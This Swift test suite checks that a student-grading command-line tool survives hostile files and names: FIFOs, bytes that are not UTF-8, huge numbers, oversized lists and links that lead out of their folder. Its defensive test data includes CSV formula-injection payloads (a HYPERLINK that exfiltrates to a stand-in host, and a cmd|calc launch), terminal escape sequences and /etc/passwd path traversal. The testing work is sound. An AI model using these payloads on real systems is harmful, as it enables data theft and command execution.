import CardBotImaging
import CardBotTestSupport
import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Hostile files and names, end to end through the built binary: FIFOs and devices, file names that are not
/// UTF-8, entries that only look like frames, huge numbers, broken session.json and deck.json, spreadsheet
/// formulas and terminal escapes in names, long names and lists, and a level path leading out of the session.
@Suite("hostile input")
struct HostileInputTests {
    /// Runs `cardbot` under `timeout`, so that a hang fails the test (status 124) instead of stopping the suite.
    static func bounded(_ arguments: [String], in directory: URL? = nil) throws -> CLIRunner.Output {
        try shell("exec \"$0\" \"$@\"", arguments, in: directory)
    }

    /// Runs a shell script with `$0` the binary and `$@` the arguments, under a 30-second deadline: the shell
    /// can name files by bytes (`printf 'a\377.png'`), which a Swift string cannot carry to a child process.
    static func shell(_ script: String, _ arguments: [String] = [], in directory: URL? = nil) throws -> CLIRunner.Output {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/timeout")
        process.arguments = ["-s", "KILL", "30", "/bin/sh", "-c", script, CLIRunner.binary] + arguments
        process.currentDirectoryURL = directory ?? CLIRunner.packageRoot
        var environment = ProcessInfo.processInfo.environment
        environment["NO_COLOR"] = "1"
        process.environment = environment
        let scratch = try CLIRunner.temporaryDirectory("cardbot-hostile-io")
        defer { try? FileManager.default.removeItem(at: scratch) }
        let outURL = scratch.appendingPathComponent("stdout")
        let errURL = scratch.appendingPathComponent("stderr")
        _ = FileManager.default.createFile(atPath: outURL.path, contents: nil)
        _ = FileManager.default.createFile(atPath: errURL.path, contents: nil)
        let out = try FileHandle(forWritingTo: outURL)
        let err = try FileHandle(forWritingTo: errURL)
        process.standardOutput = out
        process.standardError = err
        process.standardInput = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        try out.close()
        try err.close()
        return CLIRunner.Output(
            status: process.terminationStatus,
            stdout: String(decoding: try Data(contentsOf: outURL), as: UTF8.self),
            stderr: String(decoding: try Data(contentsOf: errURL), as: UTF8.self))
    }

    /// A session folder of `count` blank PNG frames and a session.json with `manifest`.
    static func session(_ folder: URL, frames count: Int, manifest: String?) throws {
        try GradeCommandTests.blankFrames(folder, count: count)
        if let manifest { try Data(manifest.utf8).write(to: folder.appendingPathComponent("session.json")) }
    }

    /// A JSON string literal for `text` (for writing hostile names into session.json).
    static func jsonString(_ text: String) throws -> String {
        String(decoding: try JSONSerialization.data(withJSONObject: [text], options: []), as: UTF8.self).dropFirst().dropLast()
            .description
    }

    // MARK: - 1. FIFOs, sockets, devices

    @Test("a FIFO frame is refused at once, naming what it is; a link to /dev/zero is a character device, not empty")
    func fifoAndDevice() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-fifo")
        defer { try? FileManager.default.removeItem(at: folder) }
        #expect(mkfifo(folder.appendingPathComponent("x.jpg").path, 0o644) == 0)
        try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("z.jpg").path, withDestinationPath: "/dev/zero")

        let fifo = try Self.bounded(["detect", "x.jpg"], in: folder)
        #expect(fifo.status == 2, "detect on a FIFO must end with status 2, not hang (124 is the deadline): \(fifo.status)")
        #expect(fifo.stderr.contains("x.jpg: is a FIFO (named pipe), not a regular file"), "\(fifo.stderr)")

        let zero = try Self.bounded(["detect", "z.jpg"], in: folder)
        #expect(zero.status == 2)
        #expect(zero.stderr.contains("z.jpg: is a character device, not a regular file"), "\(zero.stderr)")
        #expect(!zero.stderr.contains("empty"))
    }

    @Test("a FIFO named like a video, alone in a session folder, is refused at once rather than read by FFmpeg")
    func fifoVideo() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-fifo-video")
        defer { try? FileManager.default.removeItem(at: folder) }
        #expect(mkfifo(folder.appendingPathComponent("lesson.mp4").path, 0o644) == 0)
        let direct = try Self.bounded(["run", "--level", "3", folder.path])
        #expect(direct.status != 124 && direct.status != 0, "a FIFO video must fail, not hang (124 is the deadline): \(direct.status)")
        #expect(direct.stderr.contains("lesson.mp4: is a FIFO (named pipe), not a regular file"), "\(direct.stderr)")
    }

    @Test("one FIFO named like a frame in a class folder costs one frame, not the class's report")
    func fifoInClass() throws {
        let root = try CLIRunner.temporaryDirectory("hostile-fifo-class")
        defer { try? FileManager.default.removeItem(at: root) }
        let ann = root.appendingPathComponent("class/ann")
        try Self.session(ann, frames: 3, manifest: #"{"level": 1, "student": "Ann"}"#)
        #expect(mkfifo(ann.appendingPathComponent("frame-4.png").path, 0o644) == 0)
        try Self.session(root.appendingPathComponent("class/ben"), frames: 2, manifest: #"{"level": 1, "student": "Ben"}"#)
        let csv = root.appendingPathComponent("report.csv").path

        let output = try Self.bounded(["grade", root.appendingPathComponent("class").path, "--out", csv])
        #expect(output.status == 0, "grade must finish (124 is the deadline): \(output.status) \(output.stderr)")
        let records = CSVReader.records(try String(contentsOfFile: csv, encoding: .utf8))
        let header = try #require(records.first)
        let column = { (name: String) in header.firstIndex(of: name)! }
        let rows = Dictionary(uniqueKeysWithValues: records.dropFirst().map { ($0[column("student")], $0) })
        #expect(rows["Ann"]?[column("unreadableFrames")] == "1")
        #expect(rows["Ann"]?[column("frames")] == "4")
        #expect(rows["Ben"]?[column("error")] == "")

        let run = try Self.bounded(["run", "--quiet", ann.path])
        #expect(run.stderr.contains("frame-4.png: is a FIFO (named pipe), not a regular file; frame skipped"), "\(run.stderr)")
        #expect(run.stdout.contains("3 read, 1 unreadable"), "\(run.stdout)")
    }

    // MARK: - 2. File names are bytes

    @Test("a frame named a\\xff.png is read, as an argument and inside a session, and printed escaped")
    func byteFileNames() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-bytes")
        defer { try? FileManager.default.removeItem(at: folder) }
        try Self.session(folder.appendingPathComponent("s"), frames: 2, manifest: #"{"level": 1}"#)
        let copy = "cp s/frame-1.png \"$(printf 'a\\377.png')\" && cp s/frame-1.png \"s/$(printf 'b\\377.png')\" && "

        let detect = try Self.shell(copy + "exec \"$0\" detect \"$(printf 'a\\377.png')\"", in: folder)
        #expect(detect.status == 0, "\(detect.stderr)")
        #expect(detect.stdout.contains("a\\xFF.png: "), "\(detect.stdout)")
        #expect(!detect.stderr.contains("no such file"))

        let levels = CLIRunner.packageRoot.appendingPathComponent("Levels").path
        let run = try Self.bounded(["run", "--quiet", "--levels", levels, "s"], in: folder)
        #expect(run.stdout.contains("3 read, 0 unreadable"), "\(run.stdout) \(run.stderr)")
    }

    @Test("folders caf\\xE9 (a raw byte) and caf + U+10FFE9 (valid UTF-8) are two sessions, never one")
    func escapeCollision() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-collide")
        defer { try? FileManager.default.removeItem(at: folder) }
        let examples = CLIRunner.packageRoot.appendingPathComponent("Examples").path
        let make = "mkdir class && cp -r '\(examples)/maya-level-3' \"class/$(printf 'caf\\351')\" && "
            + "cp -r '\(examples)/leo-level-9' \"class/$(printf 'caf\\364\\217\\277\\251')\" && "
        let grade = try Self.shell(make + "exec \"$0\" grade class --out r.json", in: folder)
        #expect(grade.status == 0, "\(grade.stderr)")
        #expect(grade.stdout.contains("Class class: 2 sessions, 2 students"), "\(grade.stdout)")
        let report = try String(contentsOf: folder.appendingPathComponent("r.json"), encoding: .utf8)
        #expect(report.contains("\"student\":\"Maya\""), "\(report)")
        #expect(report.contains("\"student\":\"Leo\""), "\(report)")
    }

    // MARK: - 3. Entries that look like frames

    @Test("a folder named frame-9.png and a looping link are counted unreadable, each with its reason")
    func frameLookalikes() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-lookalike")
        defer { try? FileManager.default.removeItem(at: folder) }
        try Self.session(folder, frames: 2, manifest: #"{"level": 1}"#)
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("frame-9.png"), withIntermediateDirectories: false)
        try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("loop.png").path, withDestinationPath: "loop.png")

        let run = try Self.bounded(["run", "--quiet", folder.path])
        #expect(run.stdout.contains("2 read, 2 unreadable"), "\(run.stdout)")
        #expect(run.stdout.contains("frame-9.png: is a directory"))
        #expect(run.stdout.contains("loop.png: is a symbolic link that leads in a loop"))
    }

    // MARK: - 4. Whole numbers beyond 64 bits

    @Test("a whole number beyond 64 bits in a level says the bound it breaks, with its position")
    func hugeIntegers() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-huge")
        defer { try? FileManager.default.removeItem(at: folder) }
        var text = try String(contentsOf: CLIRunner.packageRoot.appendingPathComponent("Levels/01-first-steps.json"), encoding: .utf8)
        let maxCards = try #require(text.range(of: #""maxCards": \d+"#, options: .regularExpression))
        text.replaceSubrange(maxCards, with: "\"maxCards\": 99999999999999999999999")
        let number = try #require(text.range(of: #""number": \d+"#, options: .regularExpression))
        text.replaceSubrange(number, with: "\"number\": " + String(repeating: "7", count: 5000))
        try Data(text.utf8).write(to: folder.appendingPathComponent("huge.json"))

        let output = try Self.bounded(["validate", "huge.json"], in: folder)
        let all = output.stdout + output.stderr
        #expect(all.range(of: #"huge\.json:\d+:\d+: error: 'maxCards' is too large a number; it must be at most \d+"#, options: .regularExpression) != nil, "\(all)")
        #expect(all.range(of: #"huge\.json:\d+:\d+: error: 'number' is too large a number; it must be at most \d+"#, options: .regularExpression) != nil, "\(all)")
        #expect(!all.contains("not a whole number"))
    }

    // MARK: - 5. session.json and deck.json diagnostics

    @Test("session.json problems are FILE:LINE:COLUMN: error: message, never Swift's decoding errors")
    func sessionDiagnostics() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-session-json")
        defer { try? FileManager.default.removeItem(at: folder) }
        try GradeCommandTests.blankFrames(folder, count: 1)
        let cases: [(String, String)] = [
            (#"{"level":3,"#, "session.json:1:12: error: malformed JSON"),
            (#"{"level":3,"runs":[null]}"#, "session.json:1:20: error: 'runs' entry 1 must be a frame name in double quotes, not null"),
            (#"{"level":3,"frames":[[1]]}"#, "session.json:1:22: error: 'frames' entry 1 must be a frame name in double quotes, not an array"),
            ("{\n  \"fps\": \"fast\"\n}", "session.json:2:10: error: 'fps' must be the stills' frames per second"),
            ("{\n  \"fps\": 1e-18\n}", "session.json:2:10: error: 'fps' must be the stills' frames per second, from 0.01 (one frame every 100 s) to 240; 1e-18 is not"),
            (#"{"level": 1e999999}"#, "session.json:1:11: error: 'level' must be a level number or the path of a level file"),
        ]
        for (text, expected) in cases {
            try Data(text.utf8).write(to: folder.appendingPathComponent("session.json"))
            let output = try Self.bounded(["run", folder.path])
            #expect(output.status == 2)
            #expect(output.stderr.contains(expected), "\(text) -> \(output.stderr)")
            #expect(!output.stderr.contains("DecodingError") && !output.stderr.contains("Expected to decode"))
        }
    }

    @Test("deck.json problems are FILE:LINE:COLUMN: error: message")
    func deckDiagnostics() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-deck-json")
        defer { try? FileManager.default.removeItem(at: folder) }
        let cases: [(String, String)] = [
            (#"{"format": "cardbot-deck/1","#, "deck.json:1:29: error: malformed JSON"),
            ("{\"format\": \"cardbot-deck/1\",\n \"cards\": [null]}", "deck.json:2:12: error: cards[0] should be an object, not null"),
            (#"{"format": "cardbot-deck/1", "cards": [{"marker": 123456789012345678901234, "name": "a", "image": "a.png"}]}"#,
             "deck.json:1:51: error: cards[0].marker is too large a number"),
        ]
        for (text, expected) in cases {
            try Data(text.utf8).write(to: folder.appendingPathComponent("deck.json"))
            let output = try Self.bounded(["cards", "list", "--deck", "deck.json"], in: folder)
            #expect(output.status == 2)
            #expect(output.stderr.contains(expected), "\(text) -> \(output.stderr)")
            #expect(!output.stderr.contains("DecodingError"))
        }
    }

    // MARK: - 6, 7, 8. Formulas, escapes and long names in reports

    static let formulas = [#"=HYPERLINK("http://x/?"&A1,"x")"#, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    static let escape = "\u{1B}[2J\u{1B}]0;pwned\u{07}Eve"
    static let long = String(repeating: "Bartholomew-", count: 15)

    @Test("grade: formulas are neutralised in the CSV, escapes made visible, long names cut in the table only")
    func gradeReportNames() throws {
        let root = try CLIRunner.temporaryDirectory("hostile-grade")
        defer { try? FileManager.default.removeItem(at: root) }
        let students = Self.formulas + [Self.escape, Self.long]
        for (index, student) in students.enumerated() {
            try Self.session(
                root.appendingPathComponent("class/s\(index)"), frames: 1,
                manifest: "{\"level\": 1, \"student\": \(try Self.jsonString(student))}")
        }
        let csv = root.appendingPathComponent("report.csv").path
        let output = try Self.bounded(["grade", root.appendingPathComponent("class").path, "--out", csv])
        #expect(output.status == 0, "\(output.stderr)")

        let text = try String(contentsOfFile: csv, encoding: .utf8)
        #expect(text.contains(#""'=HYPERLINK(""http://x/?""&A1,""x"")""#), "\(text)")
        #expect(text.contains(#""'+cmd|' /C calc'!A0""#))
        #expect(text.contains(#""'-2+3""#))
        #expect(text.contains(#""'@SUM(1+1)""#))
        for line in text.split(separator: "\r\n") {
            let student = CSVReader.records(String(line) + "\r\n").first?[1] ?? ""
            #expect(!["=", "+", "-", "@"].contains(student.first.map(String.init) ?? ""), "unsafe cell \(student)")
        }
        #expect(CSVReader.records(text).contains { $0[1] == Self.long }, "the CSV keeps the whole long name")

        #expect(!output.stdout.contains("\u{1B}") && !output.stdout.contains("\u{07}"))
        #expect(output.stdout.contains("\\u001B[2J\\u001B]0;pwned\\u0007Eve"), "\(output.stdout)")
        let widest = output.stdout.split(separator: "\n").filter { $0.contains("Bartholomew") }.map(\.count).max() ?? 0
        #expect(widest < 80, "the table's rows stay narrow with a \(Self.long.count)-character name: \(widest)")
        #expect(output.stdout.contains("Bartholomew-Bartholomew-Bartholomew-Bar…"), "\(output.stdout)")
    }

    @Test("run and detect print names from files with control characters made visible")
    func runEscapes() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-escape")
        defer { try? FileManager.default.removeItem(at: folder) }
        try Self.session(folder, frames: 1, manifest: "{\"level\": 1, \"student\": \(try Self.jsonString(Self.escape))}")
        let run = try Self.bounded(["run", "--quiet", folder.path])
        #expect(run.status != 2, "\(run.stderr)")
        #expect(run.stdout.contains("by \\u001B[2J\\u001B]0;pwned\\u0007Eve"), "\(run.stdout)")
        #expect(!run.stdout.contains("\u{1B}") && !run.stdout.contains("\u{07}"))

        let named = "frame\u{1B}]0;x\u{07}.png"
        try FileManager.default.copyItem(at: folder.appendingPathComponent("frame-1.png"), to: folder.appendingPathComponent(named))
        let detect = try Self.bounded(["detect", named], in: folder)
        #expect(detect.stdout.contains("frame\\u001B]0;x\\u0007.png: "), "\(detect.stdout)")
        #expect(!detect.stdout.contains("\u{1B}"))
    }

    @Test("a 100,000-character student name is refused with its length and the limit")
    func hugeStudentName() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-long")
        defer { try? FileManager.default.removeItem(at: folder) }
        try Self.session(folder, frames: 1, manifest: "{\"level\": 1, \"student\": \"\(String(repeating: "x", count: 100_000))\"}")
        let output = try Self.bounded(["run", folder.path])
        #expect(output.status == 2)
        #expect(output.stderr.contains("session.json:1:25: error: 'student' is 100000 characters long; a name is at most 200"), "\(output.stderr.prefix(300))")
        #expect(output.stderr.count < 400)
    }

    // MARK: - 9. The frames list

    @Test("a frames list over the limit, or with a repeated entry, is refused")
    func frameListLimits() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-frames")
        defer { try? FileManager.default.removeItem(at: folder) }
        try GradeCommandTests.blankFrames(folder, count: 1)
        let many = "[" + Array(repeating: "\"frame-1.png\"", count: 20_000).joined(separator: ",") + "]"
        try Data("{\"level\": 1, \"frames\": \(many)}".utf8).write(to: folder.appendingPathComponent("session.json"))
        let tooMany = try Self.bounded(["run", folder.path])
        #expect(tooMany.status == 2)
        #expect(tooMany.stderr.contains("session.json:1:24: error: 'frames' lists 20000 frames; a session has at most 10000"), "\(tooMany.stderr)")

        try Data(#"{"level": 1, "frames": ["frame-1.png", "frame-1.png"]}"#.utf8).write(to: folder.appendingPathComponent("session.json"))
        let repeated = try Self.bounded(["run", folder.path])
        #expect(repeated.status == 2)
        #expect(repeated.stderr.contains("session.json:1:40: error: 'frames' lists 'frame-1.png' twice (entries 1 and 2)"), "\(repeated.stderr)")
    }

    // MARK: - 10. The level path

    @Test("the level path stays inside the session folder, and a file that is not a level is never quoted")
    func levelPath() throws {
        let folder = try CLIRunner.temporaryDirectory("hostile-level-path")
        defer { try? FileManager.default.removeItem(at: folder) }
        try GradeCommandTests.blankFrames(folder, count: 1)
        let secret = "root:x:0:0:root:/root:/bin/bash\n"
        try Data(secret.utf8).write(to: folder.appendingPathComponent("notes.json"))
        let cases: [(String, String)] = [
            ("/etc/passwd", "level '/etc/passwd' is an absolute path; it must lie inside the session folder"),
            ("../../etc/passwd", "level '../../etc/passwd' leads outside the session folder"),
            ("notes.json", "level 'notes.json' is not a level file: its text is not JSON (line 1, column 1)"),
        ]
        for (path, expected) in cases {
            try Data("{\"level\": \"\(path)\"}".utf8).write(to: folder.appendingPathComponent("session.json"))
            let output = try Self.bounded(["run", folder.path])
            #expect(output.status == 2)
            #expect(output.stderr.contains(expected), "\(path) -> \(output.stderr)")
            #expect(!output.stderr.contains("root:x"))
        }
    }

    @Test("session.json, corrections.json and class.json behind a link out of their folder are refused, as frames are")
    func linkedJSON() throws {
        let root = try CLIRunner.temporaryDirectory("hostile-linked-json")
        defer { try? FileManager.default.removeItem(at: root) }
        let session = root.appendingPathComponent("class/ann")
        try Self.session(session, frames: 1, manifest: #"{"level": 1}"#)
        let elsewhere = root.appendingPathComponent("elsewhere")
        try FileManager.default.createDirectory(at: elsewhere, withIntermediateDirectories: true)
        let files: [(name: String, folder: URL, text: String)] = [
            ("session.json", session, #"{"level": 2}"#),
            ("corrections.json", session, #"{"format": "cardbot-corrections/1", "corrections": []}"#),
            ("class.json", root.appendingPathComponent("class"), #"{"format": "cardbot-class/1", "classId": "cls-other"}"#),
        ]
        for file in files {
            let target = elsewhere.appendingPathComponent(file.name)
            try Data(file.text.utf8).write(to: target)
            let link = file.folder.appendingPathComponent(file.name)
            let kept = try? Data(contentsOf: link)
            try? FileManager.default.removeItem(at: link)
            try FileManager.default.createSymbolicLink(at: link, withDestinationURL: target)
            let command = file.name == "class.json" ? ["grade", root.appendingPathComponent("class").path] : ["run", session.path]
            let output = try Self.bounded(command)
            #expect(output.status == 2, "\(file.name): \(output.stdout)")
            #expect(output.stderr.contains("\(link.path): is a link that leads outside its folder"), "\(file.name): \(output.stderr)")
            try FileManager.default.removeItem(at: link)
            if let kept { try kept.write(to: link) }
        }
        // A link that stays inside the folder is the folder's own file.
        try FileManager.default.moveItem(at: session.appendingPathComponent("session.json"), to: session.appendingPathComponent("real.json"))
        try FileManager.default.createSymbolicLink(
            at: session.appendingPathComponent("session.json"), withDestinationURL: session.appendingPathComponent("real.json"))
        #expect(try Self.bounded(["run", session.path, "--quiet"]).status != 2)
    }

    // MARK: - Reports

    @Test("grade sweeps a report's temporary left by a killed run")
    func staleTemporaries() throws {
        let root = try CLIRunner.temporaryDirectory("hostile-tmp")
        defer { try? FileManager.default.removeItem(at: root) }
        try Self.session(root.appendingPathComponent("class/ann"), frames: 1, manifest: #"{"level": 1}"#)
        let out = root.appendingPathComponent("out")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        // Process id 999999999 is above any kernel's pid_max: that writer is surely gone.
        try Data("half a report".utf8).write(to: out.appendingPathComponent("report.csv.tmp-999999999-42"))
        let output = try Self.bounded(["grade", root.appendingPathComponent("class").path, "--out", out.appendingPathComponent("report.csv").path])
        #expect(output.status == 0, "\(output.stderr)")
        let left = try FileManager.default.contentsOfDirectory(atPath: out.path)
        #expect(left == ["report.csv"], "\(left)")
    }
}
